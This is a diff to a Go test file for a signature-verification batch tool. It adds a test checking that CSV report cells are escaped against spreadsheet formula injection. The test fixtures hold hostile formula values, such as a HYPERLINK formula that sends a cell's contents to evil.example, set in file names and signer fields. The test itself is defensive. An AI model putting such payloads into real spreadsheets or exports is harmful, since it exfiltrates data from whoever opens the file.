@@ -2,6 +2,7 @@ package batch
 
 import (
 	"bytes"
+	"context"
 	"encoding/csv"
 	"encoding/json"
 	"flag"
@@ -211,6 +212,88 @@ func TestCSVRender(t *testing.T) {
 		if row[0] == "docs/b.xml" || row[0] == "a.zip!/act.xml" || row[0] == "docs/bad.xml" {
 			t.Errorf("signed document %s has its own row", row[0])
 		}
+	}
+}
+
+// TestCSVFormulaCells: no cell a spreadsheet would run as a formula,
+// whoever chose it (the certificate's owner, the archive's author): each
+// is prefixed with "'", and a program that removes one leading "'" from
+// every cell that has one reads back what was reported.
+func TestCSVFormulaCells(t *testing.T) {
+	hostileName := `=HYPERLINK("http://evil.example/?"&A1,"Иванов").sig`
+	signer := &verify.Signer{CommonName: `=HYPERLINK("http://evil.example/","Иванов И.И.")`, Organization: "+7 (495) 123-45-67",
+		INN: "-2+3", INNLE: "\t=1+1", OGRN: "\r=1+1", SNILS: "'=1+1"}
+	r := &Report{Entries: []Entry{
+		{Path: hostileName, Kind: KindSignature, Status: Invalid, Document: "-1.xml", Pairing: PairedByName,
+			Verification: &verify.Report{Status: verify.Invalid, Signatures: []verify.SignatureReport{{
+				Position: "1", Status: verify.Invalid, SubIndication: "@SUB", Reason: "=reason", Signer: signer,
+				Revocation: verify.Revocation{Status: "+good", Source: "-ocsp"}}}}},
+		{Path: "@SUM(1+1).txt", Kind: KindDocument, Status: Unsigned},
+		{Path: "'=x.txt", Kind: KindRefused, Status: Indeterminate, SubIndication: InputRefused, Reason: "\tunsafe"},
+	}}
+	var b bytes.Buffer
+	if err := r.WriteCSV(&b, English); err != nil {
+		t.Fatal(err)
+	}
+	rows, err := csv.NewReader(&b).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, row := range rows {
+		for _, cell := range row {
+			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
+				t.Errorf("cell %q would be a formula", cell)
+			}
+		}
+	}
+	want := [][]string{
+		{hostileName, "-1.xml", PairedByName, "1", "invalid", "@SUB", "=reason", signer.CommonName, signer.Organization,
+			signer.INN, signer.INNLE, signer.OGRN, signer.SNILS, "", "+good", "-ocsp"},
+		{"@SUM(1+1).txt", "", "", "", "unsigned", "", "", "", "", "", "", "", "", "", "", ""},
+		{"'=x.txt", "", "", "", "indeterminate", string(InputRefused), "\tunsafe", "", "", "", "", "", "", "", "", ""},
+	}
+	if len(rows) != len(want)+1 {
+		t.Fatalf("%d rows, want %d", len(rows), len(want)+1)
+	}
+	for i, row := range rows[1:] {
+		for j, cell := range row {
+			if back := strings.TrimPrefix(cell, "'"); back != want[i][j] {
+				t.Errorf("row %d, %s: %q reads back as %q, want %q", i+1, rows[0][j], cell, back, want[i][j])
+			}
+			if strings.HasPrefix(want[i][j], "'") && cell != "'"+want[i][j] {
+				t.Errorf("row %d, %s: %q, want a second \"'\"", i+1, rows[0][j], cell)
+			}
+		}
+	}
+
+	// A hostile file name in a real run, from inside its folder: its path
+	// is its name.
+	dir := t.TempDir()
+	hostileFile := `=HYPERLINK("evil.example","Иванов").sig`
+	for _, name := range []string{hostileFile, "-2+3.txt", "@SUM(1).xml"} {
+		if err := os.WriteFile(filepath.Join(dir, name), []byte("not a signature"), 0o644); err != nil {
+			t.Skipf("this file system refuses the name %q: %v", name, err)
+		}
+	}
+	t.Chdir(dir)
+	rep, err := Run(context.Background(), []string{"."}, Options{})
+	if err != nil {
+		t.Fatal(err)
+	}
+	b.Reset()
+	if err := rep.WriteCSV(&b, English); err != nil {
+		t.Fatal(err)
+	}
+	rows, err = csv.NewReader(&b).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	var paths []string
+	for _, row := range rows[1:] {
+		paths = append(paths, row[0])
+	}
+	if want := []string{"'-2+3.txt", "'" + hostileFile, "'@SUM(1).xml"}; !slices.Equal(paths, want) {
+		t.Errorf("paths %q, want %q", paths, want)
 	}
 }
 
